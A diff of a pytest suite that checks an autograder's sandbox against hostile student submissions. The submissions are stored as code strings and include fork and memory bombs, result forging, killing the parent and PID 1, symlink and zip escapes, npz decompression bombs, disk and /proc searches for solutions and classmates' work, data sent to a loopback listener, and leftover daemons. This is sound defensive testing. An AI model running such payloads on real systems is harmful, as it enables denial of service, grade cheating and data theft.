@@ -1,98 +1,49 @@
-"""Hostile and broken submissions, graded by the real grader: each scores 0, none breaks the run,
-and results.json is always valid and written by the grader.
+"""Hostile submissions, graded end to end by the real grader: each gets exactly the score it
+deserves, nothing outside its sandbox is read or written, and results.json is always valid
+and the grader's own.
 
-As root (as on Gradescope) they go through the autograder zip's own run_autograder in a
-Gradescope-like folder layout, with the grader's source closed to the unprivileged user the
-submissions run as. Not as root, they go through the grader directly, and the cheats that only
-that user separation stops are skipped, saying so.
+As root (as on Gradescope) they go through the autograder zip's own ``run_autograder`` in a
+Gradescope-like folder layout (``source/`` closed to everyone but root); as a normal user,
+through the README's ``python -m raykit_grading grade`` and ``batch`` commands. Both run here
+whichever user the machine gives. Every attack that needs something outside its sandbox has
+a way to profit if it got it (it then answers right and scores), so a defence that failed
+shows as a score above the one asserted.
+
+Kinds (numbers as in the trust issue): 1 hard-coding the shipped answers, 2 links and special
+files in the submission, 3 child-controlled output, 4 one broken test, 5 hidden inputs reaching
+visible output, 6 reading the solution from disk, 7 forging results and killing the grader,
+8 no usable child Python, 9 classmates, the network, outliving the test; and the old ones:
+loops, memory, forks, printing, monkeypatching, garbage arrays.
 """
 
+from __future__ import annotations
+
+import csv
 import json
 import os
+import re
 import shutil
+import socket
 import subprocess
 import sys
+import threading
 import time
 import zipfile
 from pathlib import Path
 
+import numpy as np
 import pytest
+from mistaken_submissions import make_submission
 
+from conftest import REPO
+from raykit_grading.catalog import TESTS
 from raykit_grading.gradescope import build_zip
 from raykit_grading.release import build_release
 
 AS_ROOT = os.geteuid() == 0
-NAMES = ["2.1", "3.6"]  # one array test, one image test
 WALL = 4.0
-
-# name: (file in raykit/ to append to, code, needs root). {root} is the autograder folder.
-HOSTILE = {
-    "infinite loop at import": ("__init__.py", "while True:\n    pass\n", False),
-    "memory bomb": ("__init__.py", "hog = [bytearray(10**8) for _ in range(1000)]\n", False),
-    "fork bomb": (
-        "__init__.py",
-        "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass\n",
-        False,
-    ),
-    "os._exit at import": ("__init__.py", "import os\nos._exit(0)\n", False),
-    "prints 100 MB": (
-        "__init__.py",
-        "import sys\nfor _ in range(100):\n"
-        "    sys.stdout.write('x' * 1_000_000)\nsys.stdout.flush()\n",
-        False,
-    ),
-    "writes its own results.json": (
-        "__init__.py",
-        "import json\nfor path in ('{root}/results/results.json', "
-        "'/autograder/results/results.json'):\n    try:\n"
-        "        open(path, 'w').write(json.dumps({{'score': 1000, 'tests': []}}))\n"
-        "    except OSError:\n        pass\n",
-        False,
-    ),
-    "monkeypatches numpy and the comparison": (
-        "planes.py",
-        "import numpy as _np\n_np.allclose = _np.isclose = _np.array_equal = "
-        "lambda *a, **k: True\n"
-        "import sys as _sys\n_sys.modules['grading'] = None\n"
-        "def hit_plane(origins, directions, a, n):\n    return _np.zeros(len(origins))\n",
-        False,
-    ),
-    "wrong shape": (
-        "planes.py",
-        "import numpy as _np\ndef hit_plane(origins, directions, a, n):\n    return _np.zeros(3)\n",
-        False,
-    ),
-    "strings instead of numbers": (
-        "planes.py",
-        "import numpy as _np\n"
-        "def hit_plane(origins, directions, a, n):\n    return _np.array(['7'] * len(origins))\n",
-        False,
-    ),
-    "NaN everywhere": (
-        "render.py",
-        "import numpy as _np\n"
-        "def render(scene, samples=1):\n    h, w = scene.camera.height, scene.camera.width\n"
-        "    return Render(_np.full((h, w, 3), _np.nan), None, None)\n",
-        False,
-    ),
-    "reads the grader's files": (
-        "planes.py",
-        "import numpy as _np\ndef hit_plane(origins, directions, a, n):\n"
-        "    import glob\n    found = glob.glob('{root}/source/**/*', recursive=True)\n"
-        "    assert found, 'nothing readable'\n    return _np.zeros(len(origins))\n",
-        True,
-    ),
-    "imports the reference raykit": (
-        "planes.py",
-        "def hit_plane(origins, directions, a, n):\n    import importlib, sys\n"
-        "    for name in [m for m in sys.modules if m.startswith('raykit')]:\n"
-        "        del sys.modules[name]\n"
-        "    sys.path[:] = ['{root}/source', '{grader_site}'] + sys.path\n"
-        "    reference = importlib.import_module('raykit.planes')\n"
-        "    return reference.hit_plane(origins, directions, a, n)\n",
-        True,
-    ),
-}
+POINTS = {t.key: t.points for t in TESTS}
+SEED = 20261123
 
 
 @pytest.fixture(scope="module")
@@ -100,6 +51,19 @@ def release(tmp_path_factory):
     out = tmp_path_factory.mktemp("hostile-release") / "student"
     build_release(out)
     return out
+
+
+@pytest.fixture(scope="module")
+def canary(tmp_path_factory):
+    """A world-readable secret outside every sandbox (as an instructor's checkout is)."""
+    folder = Path("/tmp") / f"raykit-canary-{os.getpid()}"
+    folder.mkdir(exist_ok=True)
+    os.chmod(folder, 0o755)
+    secret = folder / "secret.txt"
+    secret.write_text("CANARY-7f3a: the hidden answers\n")
+    os.chmod(secret, 0o644)
+    yield secret
+    shutil.rmtree(folder, ignore_errors=True)
 
 
 @pytest.fixture(scope="module")
@@ -119,82 +83,578 @@ def autograder(tmp_path_factory):
     shutil.rmtree(root, ignore_errors=True)
 
 
-def run_autograder(root: Path, submission: Path, child_python: str, options: str) -> dict:
-    shutil.rmtree(root / "submission", ignore_errors=True)
-    shutil.rmtree(root / "results", ignore_errors=True)
-    shutil.copytree(submission, root / "submission")
-    env = {
-        "PATH": "/usr/bin:/bin",
-        "AUTOGRADER_ROOT": str(root),
-        "RAYKIT_GRADER_PYTHON": sys.executable,
-        "RAYKIT_CHILD_PYTHON": child_python,
-        "RAYKIT_GRADE_OPTIONS": options,
-    }
-    run = subprocess.run(
-        ["bash", str(root / "run_autograder")], env=env, capture_output=True, text=True, timeout=300
-    )
+def grade_as_deployed(
+    autograder: Path, submission: Path, only: list[str], tmp_path: Path, extra: str = ""
+) -> tuple[dict, subprocess.CompletedProcess]:
+    """Grade the way an instructor does: run_autograder as root, the grade command otherwise."""
+    options = f"--only {' '.join(only)} --wall-seconds {WALL} --seed {SEED} {extra}"
+    if AS_ROOT:
+        shutil.rmtree(autograder / "submission", ignore_errors=True)
+        shutil.rmtree(autograder / "results", ignore_errors=True)
+        subprocess.run(["cp", "-a", str(submission), str(autograder / "submission")], check=True)
+        env = {
+            "PATH": "/usr/bin:/bin",
+            "AUTOGRADER_ROOT": str(autograder),
+            "RAYKIT_GRADER_PYTHON": sys.executable,
+            "RAYKIT_GRADE_OPTIONS": options,
+        }
+        run = subprocess.run(
+            ["bash", str(autograder / "run_autograder")],
+            env=env,
+            capture_output=True,
+            text=True,
+            timeout=300,
+        )
+        path = autograder / "results/results.json"
+    else:
+        path = tmp_path / "results" / "results.json"
+        run = subprocess.run(
+            [sys.executable, "-m", "raykit_grading", "grade", str(submission), "-o", str(path),
+             *options.split()],
+            capture_output=True, text=True, timeout=300, cwd=REPO,
+        )  # fmt: skip
+    return json.loads(path.read_text()), run
+
+
+def submission_with(release: Path, tmp_path: Path, edits: dict[str, str], **fmt) -> Path:
+    """The solution with code appended to some of its modules."""
+    folder = make_submission(tmp_path / "submission")
+    for name, code in edits.items():
+        with open(folder / "raykit" / name, "a") as module:
+            module.write("\n" + code.format(**fmt) + "\n")
+    return folder
+
+
+def scores(results: dict) -> dict[str, float]:
+    return {t["number"]: t["score"] for t in results["tests"]}
+
+
+def everything_visible(results: dict) -> str:
+    return json.dumps(results)
+
+
+# ---- the old kinds: each scores 0 on the tests it sabotages, and the run survives ----------
+
+SABOTAGE = {
+    "infinite loop at import": ("__init__.py", "while True:\n    pass"),
+    "memory bomb": ("__init__.py", "hog = [bytearray(10**8) for _ in range(1000)]"),
+    "fork bomb": (
+        "__init__.py",
+        "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass",
+    ),
+    "os._exit at import": ("__init__.py", "import os\nos._exit(0)"),
+    "prints 100 MB": (
+        "__init__.py",
+        "import sys\nfor _ in range(100):\n    sys.stdout.write('x' * 1_000_000)\n"
+        "sys.stdout.flush()",
+    ),
+    "monkeypatches numpy and the comparison": (
+        "planes.py",
+        "import numpy as _np\n_np.allclose = _np.isclose = _np.array_equal = "
+        "lambda *a, **k: True\nimport sys as _sys\n_sys.modules['raykit_grading'] = None\n"
+        "def hit_plane(origins, directions, a, n):\n    return _np.zeros(len(origins))",
+    ),
+    "wrong shape": (
+        "planes.py",
+        "import numpy as _np\ndef hit_plane(origins, directions, a, n):\n    return _np.zeros(3)",
+    ),
+    "strings instead of numbers": (
+        "planes.py",
+        "import numpy as _np\ndef hit_plane(origins, directions, a, n):\n"
+        "    return _np.array(['7'] * len(origins))",
+    ),
+    "NaN everywhere": (
+        "render.py",
+        "import numpy as _np\ndef render(scene, samples=1, **kw):\n"
+        "    h, w = scene.camera.height, scene.camera.width\n"
+        "    return Render(_np.full((h, w, 3), _np.nan), None, None)",
+    ),
+}
+
+
+@pytest.mark.parametrize("name", sorted(SABOTAGE))
+def test_sabotage_scores_zero_and_the_run_survives(name, release, autograder, tmp_path):
+    file, code = SABOTAGE[name]
+    submission = submission_with(release, tmp_path, {file: code})
+    start = time.perf_counter()
+    results, run = grade_as_deployed(autograder, submission, ["2.1", "3.6"], tmp_path)
     assert run.returncode == 0, run.stderr[-2000:]
-    return json.loads((root / "results/results.json").read_text())
+    # the solution with one module sabotaged: what needs that module scores nothing
+    expected = {"2.1": 2, "3.6": 0} if file == "render.py" else {"2.1": 0, "3.6": 0}
+    if name == "prints 100 MB":  # printing is no mistake: the output is cut, the code graded
+        expected = {"2.1": 2, "3.6": 4}
+    assert scores(results) == expected, results
+    assert time.perf_counter() - start < 2 * (WALL + 15)
+    text = [re.sub(r"<img [^>]*>", "", t["output"]) for t in results["tests"]]
+    assert all(len(output) <= 5000 for output in text)  # the printing is cut
 
 
-@pytest.mark.parametrize("name", sorted(HOSTILE))
-def test_hostile_submission_scores_zero_and_the_run_survives(
-    name, release, autograder, child_python, tmp_path
+# ---- 1: the shipped (public) answers do not answer the graded tests --------------------------
+
+
+def test_1_a_submission_that_replays_the_shipped_answers_scores_zero(
+    release, autograder, tmp_path
 ):
-    file, code, needs_root = HOSTILE[name]
-    if needs_root and not AS_ROOT:
-        pytest.skip("only the unprivileged sandbox user (grading as root) stops this cheat")
+    """It implements nothing: it returns the release's expected results (and reference image)
+    for any input, which passes every public test and no graded one."""
+    submission = make_submission(tmp_path / "submission")
+    answers = submission / "raykit" / "answers"
+    for case in ("2_1", "3_6", "4_4"):
+        shutil.copytree(release / "tests/expected" / case, answers / case)
+    replay = (
+        "import numpy as _np, pathlib as _p\n"
+        "_A = _p.Path(__file__).parent / 'answers'\n"
+        "def _answer(case, key):\n"
+        "    with _np.load(_A / case / 'expected.npz') as data:\n"
+        "        return data[key]\n"
+    )
+    edits = {
+        "planes.py": replay + "def hit_plane(o, d, a, n):\n    return _answer('2_1', 't')",
+        "shading.py": replay + "def lambert(kd, i, n, l):\n    return _answer('4_4', 'L')",
+        "render.py": replay + "def render(scene, samples=1, **kw):\n"
+        "    return Render(_answer('3_6', 'rgb'), None, None)",
+    }
+    for name, code in edits.items():
+        with open(submission / "raykit" / name, "a") as module:
+            module.write("\n" + code + "\n")
+    nodes = [f"tests/test_visible.py::test_visible[{t.name}]" for t in TESTS
+             if t.key in ("2.1", "3.6", "4.4")]  # fmt: skip
+    student = subprocess.run(  # the public tests: all three pass
+        [sys.executable, "-m", "pytest", "-q", "-p", "no:cacheprovider", *nodes],
+        cwd=_release_with(release, submission, tmp_path), capture_output=True, text=True,
+        env={"PATH": "/usr/bin:/bin", "PYTHONPATH": str(tmp_path / "with")},
+    )  # fmt: skip
+    assert "3 passed" in student.stdout, student.stdout[-1500:]
+    results, run = grade_as_deployed(autograder, submission, ["2.1", "3.6", "4.4"], tmp_path)
+    assert run.returncode == 0, run.stderr[-2000:]
+    assert scores(results) == {"2.1": 0, "3.6": 0, "4.4": 0}, results
+
+
+def _release_with(release: Path, submission: Path, tmp_path: Path) -> Path:
+    folder = tmp_path / "with"
+    shutil.copytree(release, folder)
+    shutil.rmtree(folder / "raykit")
+    shutil.copytree(submission / "raykit", folder / "raykit")
+    return folder
+
+
+# ---- 2: links and special files in the submission are never followed ------------------------
+
+
+def test_2_a_raykit_that_is_a_link_to_the_reference_scores_zero(autograder, tmp_path):
+    submission = tmp_path / "submission"
+    submission.mkdir()
+    (submission / "raykit").symlink_to(REPO / "raykit")
+    results, run = grade_as_deployed(autograder, submission, ["2.1", "3.6"], tmp_path)
+    assert scores(results) == {"2.1": 0, "3.6": 0}
+    assert "raykit is a symbolic link: not followed" in results["output"]
+    assert "no raykit package" in results["tests"][0]["output"]
+    assert run.returncode == 1  # graded: nothing to grade, and the command says so
+
+
+def test_2_linked_modules_fifos_and_zip_tricks_are_left_out(release, autograder, tmp_path):
+    """planes.py a link to the reference's, a FIFO beside it: planes.py is missing, so every
+    test that needs it fails; the FIFO is never opened (no hang)."""
+    submission = make_submission(tmp_path / "submission")
+    (submission / "raykit/planes.py").unlink()
+    (submission / "raykit/planes.py").symlink_to(REPO / "raykit/planes.py")
+    os.mkfifo(submission / "raykit/pipe.py")
+    results, run = grade_as_deployed(autograder, submission, ["2.1", "2.3"], tmp_path)
+    assert scores(results) == {"2.1": 0, "2.3": 2}, results
+    assert "raykit/planes.py is a symbolic link: left out" in results["output"]
+    assert "raykit/pipe.py is a named pipe (FIFO): left out" in results["output"]
+
+
+def test_2_a_zipped_submission_is_unpacked_without_links_or_escapes(autograder, tmp_path):
+    solution = make_submission(tmp_path / "solution")
+    submission = tmp_path / "submission"
+    submission.mkdir()
+    with zipfile.ZipFile(submission / "work.zip", "w") as archive:
+        for path in sorted((solution / "raykit").rglob("*.py")):
+            archive.write(path, f"mine/{path.relative_to(solution)}")
+        link = zipfile.ZipInfo("mine/raykit/evil.py")
+        link.external_attr = 0o120777 << 16  # a symbolic link to the grader
+        archive.writestr(link, "/autograder/source/raykit/planes.py")
+    results, run = grade_as_deployed(autograder, submission, ["2.1"], tmp_path)
+    assert scores(results) == {"2.1": 2}, results
+    assert "evil.py is a link: left out" in results["output"]
+
+
+# ---- 3: what the child hands back is read as untrusted -------------------------------------
+
+RETURNED = {
+    "a compressed npz (a bomb)": (
+        "import io, zipfile\n"
+        "buf = io.BytesIO()\n"
+        "with zipfile.ZipFile(buf, 'w', zipfile.ZIP_DEFLATED) as z:\n"
+        "    z.writestr('t.npy', b'\\x93NUMPY\\x01\\x00v\\x00' + b' ' * 118 + b'\\n'"
+        " + b'\\0' * 50_000_000)\n"
+        "data = buf.getvalue()"
+    ),
+    "a header that claims a huge array": (
+        "import io, zipfile\n"
+        "header = \"{{'descr': '<f8', 'fortran_order': False, 'shape': (10**12,), }}\"\n"
+        "header = header.ljust(117) + '\\n'\n"
+        "npy = b'\\x93NUMPY\\x01\\x00' + len(header).to_bytes(2, 'little') + header.encode()\n"
+        "buf = io.BytesIO()\n"
+        "with zipfile.ZipFile(buf, 'w') as z:\n"
+        "    z.writestr('t.npy', npy + b'\\0' * 64)\n"
+        "data = buf.getvalue()"
+    ),
+    "object arrays (pickles)": (
+        "import io, numpy\nbuf = io.BytesIO()\n"
+        "numpy.savez(buf, t=numpy.array([object()], dtype=object))\ndata = buf.getvalue()"
+    ),
+    "garbage": "data = b'PK' + b'\\xff' * 5000",
+    "endless bytes": "data = b'x' * (200 * 2**20)",
+}
+
+
+@pytest.mark.parametrize("name", sorted(RETURNED))
+def test_3_what_a_child_returns_is_checked_before_it_is_believed(
+    name, release, autograder, tmp_path
+):
+    """The child writes its own 'results' to the grader's pipe and exits before child.py can."""
+    code = (
+        "def hit_plane(origins, directions, a, n):\n    import os\n"
+        + "".join(f"    {line}\n" for line in RETURNED[name].splitlines())
+        + "    os.write(3, data) if len(data) < 2**16 else open(3, 'wb', closefd=False)"
+        ".write(data)\n    os._exit(0)"
+    )
+    submission = submission_with(release, tmp_path, {"planes.py": code})
+    results, run = grade_as_deployed(autograder, submission, ["2.1", "2.3"], tmp_path)
+    assert scores(results) == {"2.1": 0, "2.3": 2}, results
+    assert run.returncode == 0, run.stderr[-2000:]
+
+
+def test_3_the_sandbox_gives_the_child_no_writable_path_the_grader_reads(
+    release, autograder, tmp_path
+):
+    """It tries to swap every file of its work folder for a link to a root-only file or a
+    FIFO: the folder is read-only, and the grader reads nothing back from it anyway."""
+    code = (
+        "def hit_plane(origins, directions, a, n):\n    import os, numpy as np\n"
+        "    swapped = 0\n"
+        "    for name in os.listdir('/work'):\n"
+        "        try:\n"
+        "            os.replace('/work/' + name, '/tmp/x'); swapped += 1\n"
+        "        except OSError:\n            pass\n"
+        "        try:\n"
+        "            os.mkfifo('/work/' + name + '.fifo'); swapped += 1\n"
+        "        except OSError:\n            pass\n"
+        "    return np.full(len(origins), np.inf) if swapped == 0 else 1 / 0"
+    )
+    submission = submission_with(release, tmp_path, {"planes.py": code})
+    results, run = grade_as_deployed(autograder, submission, ["2.1"], tmp_path)
+    assert "division by zero" not in everything_visible(results)
+    assert scores(results) == {"2.1": 0}
+
+
+# ---- 4: one broken test is that test's alone -----------------------------------------------
+
+
+def test_4_a_test_that_kills_its_own_child_costs_only_that_test(release, autograder, tmp_path):
+    code = "def hit_plane(origins, directions, a, n):\n    import os\n    os._exit(3)"
+    submission = submission_with(release, tmp_path, {"planes.py": code})
+    only = ["2.1", "2.3", "3.1", "4.1"]
+    results, run = grade_as_deployed(autograder, submission, only, tmp_path)
+    assert scores(results) == {"2.1": 0, "2.3": 2, "3.1": 1, "4.1": 1}, results
+    assert results["score"] == sum(POINTS[k] for k in only) - POINTS["2.1"]
+
+
+# ---- 5: hidden inputs never reach a visible test's output ----------------------------------
+
+
+def test_5_a_hidden_test_cannot_leave_its_inputs_for_a_visible_one(release, autograder, tmp_path):
+    """The hidden ray-sphere tests (2.4, 2.5) hide their inputs everywhere they can write; the
+    visible ray-plane test (2.1, graded after them here) prints whatever it finds."""
+    stash = ["/tmp/stash", "/dev/shm/stash", "/var/tmp/stash", "/work/stash"]
+    code = (
+        "def hit_sphere(origins, directions, center, radius):\n    import os\n"
+        f"    for path in {stash!r} + [os.path.expanduser('~/stash')]:\n"
+        "        try:\n"
+        "            open(path, 'w').write('HIDDEN-INPUTS ' + repr(center.tolist()))\n"
+        "        except OSError:\n            pass\n"
+        "    return _hit_sphere(origins, directions, center, radius)\n"
+    )
+    peek = (
+        "def hit_plane(origins, directions, a, n):\n    import os\n"
+        f"    for path in {stash!r} + [os.path.expanduser('~/stash')]:\n"
+        "        try:\n            print(open(path).read())\n"
+        "        except OSError:\n            pass\n"
+        "    print('uid', os.getuid())\n"
+        "    return _hit_plane(origins, directions, a, n)\n"
+    )
+    submission = make_submission(tmp_path / "submission")
+    for name, old, new in (("spheres.py", "hit_sphere", code), ("planes.py", "hit_plane", peek)):
+        path = submission / "raykit" / name
+        text = path.read_text().replace(f"def {old}(", f"def _{old}(", 1)
+        path.write_text(text + "\n" + new)
+    results, run = grade_as_deployed(autograder, submission, ["2.4", "2.5", "2.1"], tmp_path)
+    assert scores(results) == {"2.4": 1, "2.5": 2, "2.1": 2}, results
+    visible = next(t for t in results["tests"] if t["number"] == "2.1")["output"]
+    assert "uid" in visible  # what it printed does show (a visible test)
+    assert "HIDDEN-INPUTS" not in everything_visible(results)
+
+
+# ---- 6: the solution is nowhere the child can read -----------------------------------------
+
+SEARCH = (
+    "def hit_plane(origins, directions, a, n):\n"
+    "    import os, sys, importlib.util\n"
+    "    found = []\n"
+    "    for top, dirs, files in os.walk('/', onerror=lambda e: None):\n"
+    "        dirs[:] = [d for d in dirs if d not in ('proc', 'sys', 'dev')]\n"
+    "        for name in files:\n"
+    "            path = os.path.join(top, name)\n"
+    "            try:\n"
+    "                text = open(path, errors='replace').read(200000)\n"
+    "            except OSError:\n                continue\n"
+    "            if 'CANARY-7f3a' in text or 'secret.txt' in name:\n"
+    "                print('FOUND', path, text[:40])\n"
+    "            if name == 'planes.py' and '(a - origins) @ n' in text:\n"
+    "                found.append(path)\n"
+    "    for path in found:\n"
+    "        spec = importlib.util.spec_from_file_location('reference_planes', path)\n"
+    "        module = importlib.util.module_from_spec(spec)\n"
+    "        spec.loader.exec_module(module)\n"
+    "        return module.hit_plane(origins, directions, a, n)\n"
+    "    import numpy\n"
+    "    return numpy.zeros(len(origins))\n"
+)
+
+
+def test_6_a_submission_that_searches_the_disk_finds_no_solution(
+    release, autograder, canary, tmp_path
+):
     submission = tmp_path / "submission"
     shutil.copytree(release / "raykit", submission / "raykit")
-    import sysconfig
+    with open(submission / "raykit/planes.py", "a") as module:
+        module.write("\n" + SEARCH)
+    results, run = grade_as_deployed(autograder, submission, ["2.1"], tmp_path)
+    assert scores(results) == {"2.1": 0}, results
+    assert "CANARY" not in everything_visible(results) and "FOUND" not in everything_visible(
+        results
+    )
 
-    grader_site = sysconfig.get_paths()["purelib"]  # where the grader's own raykit is installed
-    with open(submission / "raykit" / file, "a") as module:
-        module.write("\n" + code.format(root=autograder, grader_site=grader_site))
+
+# ---- 7: the results are the grader's; killing it loses nothing ----------------------------
+
+
+def test_7_forged_results_and_a_killed_parent_change_nothing(release, autograder, tmp_path):
+    targets = [str(autograder / "results/results.json"), str(tmp_path / "results/results.json")]
+    code = (
+        "import json, os, signal\n"
+        f"for path in {targets!r}:\n"
+        "    try:\n"
+        "        open(path, 'w').write(json.dumps({{'score': 1000, 'tests': []}}))\n"
+        "    except OSError:\n        pass\n"
+        "for pid in (os.getppid(), 1, -1):\n"
+        "    try:\n        os.kill(pid, signal.SIGKILL)\n"
+        "    except OSError:\n        pass\n"
+    )
+    submission = tmp_path / "submission"
+    shutil.copytree(release / "raykit", submission / "raykit")
+    with open(submission / "raykit/__init__.py", "a") as module:
+        module.write("\n" + code.replace("{{", "{").replace("}}", "}"))
+    results, run = grade_as_deployed(autograder, submission, ["2.1", "3.6"], tmp_path)
+    assert run.returncode == 0, run.stderr[-2000:]
+    assert scores(results) == {"2.1": 0, "3.6": 0}
+    assert results["score"] == 0 and len(results["tests"]) == 2
+
+
+# ---- 8: a grader that cannot grade says so, before grading anyone --------------------------
+
+
+def test_8_no_usable_child_python_is_one_line_and_a_non_zero_exit(tmp_path):
+    submission = make_submission(tmp_path / "submission")
+    out = tmp_path / "r.json"
+    run = subprocess.run(
+        [sys.executable, "-m", "raykit_grading", "grade", str(submission), "-o", str(out),
+         "--only", "2.1", "--child-python", "/nonexistent/python3"],
+        capture_output=True, text=True, cwd=REPO,
+    )  # fmt: skip
+    assert run.returncode == 3
+    assert "Traceback" not in run.stderr
+    assert run.stderr.startswith("raykit_grading: error: cannot grade: cannot run the child")
+    results = json.loads(out.read_text())
+    assert results["tests"][0]["output"].startswith("NOT GRADED")
+    batch = subprocess.run(
+        [sys.executable, "-m", "raykit_grading", "batch", str(tmp_path), "-o",
+         str(tmp_path / "out"), "--child-python", "/nonexistent/python3"],
+        capture_output=True, text=True, cwd=REPO,
+    )  # fmt: skip
+    assert batch.returncode == 3 and "Traceback" not in batch.stderr
+    assert not (tmp_path / "out/scores.csv").exists()
+
+
+# ---- 9: classmates, the network, and outliving the test -------------------------------------
+
+
+class _Listener:
+    """A TCP server on loopback that counts the connections it gets."""
+
+    def __init__(self) -> None:
+        self.server = socket.socket()
+        self.server.bind(("127.0.0.1", 0))
+        self.server.listen()
+        self.server.settimeout(0.2)
+        self.port = self.server.getsockname()[1]
+        self.connections = 0
+        self.running = True
+        self.thread = threading.Thread(target=self._serve, daemon=True)
+        self.thread.start()
+
+    def _serve(self) -> None:
+        while self.running:
+            try:
+                connection, _ = self.server.accept()
+            except OSError:
+                continue
+            self.connections += 1
+            connection.close()
+
+    def close(self) -> None:
+        self.running = False
+        self.thread.join()
+        self.server.close()
+
+
+def test_9_classmates_network_and_daemons_in_a_batch(release, tmp_path):
+    """In one batch: mallory looks for her classmate's folder (through the grader's command
+    line in /proc and by walking the disk), sends her inputs to a server on this machine, and
+    leaves a daemon behind; ada's work and the class's scores.csv come out untouched."""
+    listener = _Listener()
+    students = tmp_path / "submissions"
+    make_submission(students / "ada")
+    (students / "ada/raykit/ada_marker.py").write_text("# ADA-SECRET-WORK\n")
+    marker = f"DAEMON-{os.getpid()}"
+    code = (
+        "def hit_plane(origins, directions, a, n):\n"
+        "    import os, socket, subprocess, sys, glob\n"
+        "    seen = []\n"
+        "    for cmd in glob.glob('/proc/*/cmdline'):\n"
+        "        try:\n            seen.append(open(cmd).read())\n"
+        "        except OSError:\n            pass\n"
+        "    for top, dirs, files in os.walk('/', onerror=lambda e: None):\n"
+        "        dirs[:] = [d for d in dirs if d not in ('proc', 'sys', 'dev')]\n"
+        "        for name in files:\n"
+        "            if name == 'ada_marker.py':\n"
+        "                print(open(os.path.join(top, name)).read())\n"
+        "    print('PROCS', [s for s in seen if 'ada' in s])\n"
+        "    try:\n"
+        f"        socket.create_connection(('127.0.0.1', {listener.port}), timeout=1)"
+        ".sendall(origins.tobytes())\n"
+        "    except OSError as e:\n        print('NET', e)\n"
+        "    if os.fork() == 0:\n"
+        "        os.setsid()\n"
+        f"        os.execv(sys.executable, [sys.executable, '-c', 'import time; time.sleep(60)',"
+        f" '{marker}'])\n"
+        "    import numpy\n    return numpy.zeros(len(origins))\n"
+    )
+    mallory = make_submission(students / "mallory")
+    with open(mallory / "raykit/planes.py", "a") as module:
+        module.write("\n" + code)
+    out = tmp_path / "out"
+    try:
+        run = subprocess.run(
+            [sys.executable, "-m", "raykit_grading", "batch", str(students), "-o", str(out),
+             "--only", "2.1", "2.3", "--wall-seconds", str(WALL), "--jobs", "2"],
+            capture_output=True, text=True, cwd=REPO, timeout=300,
+        )  # fmt: skip
+    finally:
+        listener.close()
+    assert run.returncode == 0, run.stderr[-2000:]
+    rows = {row["student"]: row for row in csv.DictReader((out / "scores.csv").open())}
+    assert {k: (rows[k]["status"], float(rows[k]["score"])) for k in rows} == {
+        "ada": ("graded", 4.0),
+        "mallory": ("graded", 2.0),
+    }
+    feedback = (out / "feedback/mallory/results.json").read_text()
+    assert "ADA-SECRET-WORK" not in feedback and "PROCS []" in feedback
+    assert "NET" in feedback and listener.connections == 0
+    left = []
+    for proc in Path("/proc").iterdir():
+        try:
+            if proc.name.isdigit() and marker in (proc / "cmdline").read_text():
+                left.append(proc.name)
+        except OSError:
+            pass
+    assert left == []
+
+
+def test_batch_goes_on_past_a_student_it_cannot_grade_and_resumes(release, tmp_path):
+    students = tmp_path / "submissions"
+    make_submission(students / "ada")
+    (students / "empty").mkdir()  # no raykit/ at all
+    out = tmp_path / "out"
+    command = [sys.executable, "-m", "raykit_grading", "batch", str(students), "-o", str(out),
+               "--only", "2.1"]  # fmt: skip
+    first = subprocess.run(command, capture_output=True, text=True, cwd=REPO, timeout=300)
+    assert first.returncode == 1
+    assert "empty: could not grade: no raykit package" in first.stderr
+    rows = {row["student"]: row for row in csv.DictReader((out / "scores.csv").open())}
+    assert rows["ada"]["status"] == "graded" and float(rows["ada"]["score"]) == 2
+    make_submission(students / "bob")
+    again = subprocess.run(command, capture_output=True, text=True, cwd=REPO, timeout=300)
+    assert "3 students" in again.stdout and again.returncode == 1
+    rows = {row["student"]: row for row in csv.DictReader((out / "scores.csv").open())}
+    assert rows["bob"]["status"] == "graded"
+
+
+def test_a_slow_submission_is_stopped_by_the_total_budget(release, autograder, tmp_path):
+    """It sleeps at import: every test times out until the total is used up, then the rest
+    are not run; the whole grading takes about the total, not tests x wall."""
+    submission = submission_with(release, tmp_path, {"__init__.py": "import time\ntime.sleep(60)"})
     start = time.perf_counter()
-    if AS_ROOT:
-        results = run_autograder(
-            autograder, submission, child_python, f"--only {' '.join(NAMES)} --wall-seconds {WALL}"
-        )
-    else:
-        from raykit_grading.grade import grade_to_file
-        from raykit_grading.sandbox import Limits
-
-        out = tmp_path / "results.json"
-        grade_to_file(
-            submission,
-            out,
-            child_python=child_python,
-            names=NAMES,
-            limits=Limits(wall_seconds=WALL, cpu_seconds=int(WALL) + 1),
-        )
-        results = json.loads(out.read_text())
-    seconds = time.perf_counter() - start
-    assert [t["name"].split()[0] for t in results["tests"]] == NAMES
-    assert results["score"] == 0, results
-    assert all(t["score"] == 0 for t in results["tests"])
-    assert seconds < len(NAMES) * (WALL + 10)
-    assert all(len(t["output"]) <= 4000 for t in results["tests"])
+    only = ["2.1", "2.3", "3.1", "4.1", "4.6"]
+    results, run = grade_as_deployed(
+        autograder, submission, only, tmp_path, extra="--total-seconds 6"
+    )
+    assert time.perf_counter() - start < 6 + 30
+    assert all(score == 0 for score in scores(results).values())
+    assert any("not run: all tests together" in t["output"] for t in results["tests"])
 
 
-def test_a_correct_submission_through_run_autograder_scores_full_marks(
-    autograder, child_python, tmp_path
-):
-    if not AS_ROOT:
-        pytest.skip("run_autograder is exercised as root, as Gradescope runs it")
-    from mistaken_submissions import make_submission
-
-    from raykit_grading.catalog import TESTS
-
-    results = run_autograder(autograder, make_submission(tmp_path), child_python, "")
-    assert results["score"] == pytest.approx(sum(t.points for t in TESTS))
+def test_a_correct_submission_scores_full_marks_as_deployed(autograder, tmp_path):
+    results, run = grade_as_deployed(
+        autograder, make_submission(tmp_path / "submission"), [t.key for t in TESTS], tmp_path
+    )
+    assert run.returncode == 0, run.stderr[-2000:]
+    failed = [(t["number"], t["output"][:300]) for t in results["tests"] if t["status"] != "passed"]
+    assert failed == []
+    assert results["score"] == pytest.approx(sum(POINTS.values()))
 
 
-def test_no_sandbox_user_process_outlives_the_run():
-    if not AS_ROOT:
-        pytest.skip("processes are counted per sandbox user, which exists when grading as root")
-    from raykit_grading.sandbox import SANDBOX_UIDS
+def test_nothing_is_left_behind():
+    """No sandbox uid process, no grader workspace (this runs after the tests above)."""
+    from raykit_grading.isolation import SANDBOX_UIDS
 
     uids = set(SANDBOX_UIDS)
     left = [p for p in Path("/proc").iterdir() if p.name.isdigit() and p.stat().st_uid in uids]
     assert left == []
